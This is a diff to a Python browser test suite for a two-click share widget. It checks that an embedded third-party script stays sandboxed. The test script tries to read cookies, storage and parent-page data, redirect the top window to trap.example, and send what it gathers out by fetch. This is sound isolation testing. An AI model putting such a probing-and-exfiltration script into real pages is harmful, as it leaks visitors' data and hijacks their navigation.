@@ -38,6 +38,43 @@ fetch("/report?won=" + won.join("+") + "&origin=" + self.origin);
 </script>"""
 
 
+# The script of a company that has no page to frame, in our document.
+OWN_SCRIPT = """
+const attempts = {
+  cookie: () => document.cookie,
+  storage: () => localStorage.length,
+  wrapper: () => parent.document.title,
+  outer: () => top.document.title,
+  navigation: () => { top.location = "https://trap.example/"; },
+};
+const won = Object.keys(attempts).filter((name) => {
+  try { attempts[name](); return true; } catch { return false; }
+});
+const seen = [document.baseURI, location.href, document.referrer, self.origin];
+const told = document.querySelector(".timeline").dataset.name;
+const report = "/report?" + won.join("+") + "&" + seen.join("&") + "&" + told;
+fetch("https://timeline.example" + report, { mode: "no-cors" });
+fetch("https://trap.example/", { mode: "no-cors" });
+"""
+OWN_REPORT = "/report?&about:srcdoc&about:srcdoc&&null&cable"
+
+
+def test_a_script_without_a_page_of_its_own_learns_nothing_of_ours(
+    two_click_site: str, page: Page, recorder: Recorder, contacted: Contacted
+) -> None:
+    recorder.answers["timeline.example"] = OWN_SCRIPT
+    page.goto(f"{two_click_site}/en/widget/")
+    assert contacted(page) == set()
+
+    ShareBar(page).tick("timeline")
+
+    recorder.wait_until(lambda: any(one.path.startswith("/report") for one in recorder.requests))
+    reports = [one.path for one in recorder.requests if one.path.startswith("/report")]
+    assert reports == [OWN_REPORT]
+    assert contacted(page) == {"timeline.example"}
+    assert page.url.partition("#")[0] == f"{two_click_site}/en/widget/"
+
+
 def test_a_plugin_can_neither_read_nor_replace_the_page(
     two_click_site: str, page: Page, recorder: Recorder, contacted: Contacted
 ) -> None:
